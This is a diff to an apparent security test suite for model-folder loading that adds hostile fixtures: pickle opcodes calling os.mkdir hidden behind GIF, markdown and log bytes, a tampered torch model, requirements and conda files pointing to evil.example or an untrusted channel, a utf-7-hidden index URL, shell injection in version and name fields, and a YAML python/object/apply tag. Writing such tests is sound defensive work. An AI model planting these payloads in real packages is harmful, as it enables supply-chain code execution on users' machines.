@@ -296,6 +296,31 @@ for _path, _words, _protocol in (
     )
 
 
+def calling(canary):
+    """A pickle in text alone: bytes that can follow any number of harmless ones."""
+    return b"cos\nmkdir\n(S'%s'\ntR." % str(canary).encode()
+
+
+for _path, _before in (
+    ("extra_files/logo.gif", lambda: b"GIF89a\n\0\0" + b"0"),
+    ("extra_files/long.md", lambda: b"S'" + b"A" * 70_000 + b"'\n0"),
+    ("extra_files/steps.log", lambda: b"N0" * 6_000),
+    ("registered_model_meta", lambda: b""),
+):
+    hostile(f"text of a pickle behind other bytes in {_path}", r"pickle", unpickle(_path))(
+        lambda folder, canary, path=_path, before=_before: put(folder, path, before() + calling(canary))
+    )
+
+
+@hostile("a pickle whose method is another", "brings its own 'eval'", loads=True)
+def _(folder, canary):
+    import torch
+
+    whole = torch.load(folder / MODEL, weights_only=False)
+    whole.__dict__["eval"] = torch.nn.Identity
+    torch.save(whole, folder / MODEL)
+
+
 @hostile("pickle called state_dict.safetensors, alone", "holds pickle", unpickle("state_dict.safetensors"))
 def _(folder, canary):
     (folder / MODEL).unlink()
@@ -655,6 +680,11 @@ for _what, _path, _content in (
     ("a URL", "requirements.txt", "torch @ https://evil.example/torch.whl\n"),
     ("a repository", "requirements.txt", "-e git+https://evil.example/x#egg=torch\n"),
     ("a repository", "conda.yaml", CONDA.replace("torch==2.13.0", "git+https://evil.example/x")),
+    ("an index behind an encoding", "requirements.txt", "# coding: utf-7\n# +AAo---index-url http://evil/\n"),
+    ("an encoding's mark", "requirements.txt", "\ufefftorch==2.13.0\n"),
+    ("somebody's channel", "conda.yaml", CONDA.replace("conda-forge", "somebody")),
+    ("a command as the version", "python_env.yaml", PYTHON.replace("3.11.7", r'"3.11\nRUN touch x\n#"')),
+    ("a command as the name", "conda.yaml", CONDA + 'name: "$(touch x)"\n'),
     ("a channel by URL", "conda.yaml", CONDA.replace("conda-forge", "https://evil.example/channel")),
     ("a Python tag", "conda.yaml", CONDA + "name: !!python/object/apply:os.mkdir ['x']\n"),
     ("a wheel", "python_env.yaml", PYTHON.replace("wheel", "./wheels/evil.whl")),
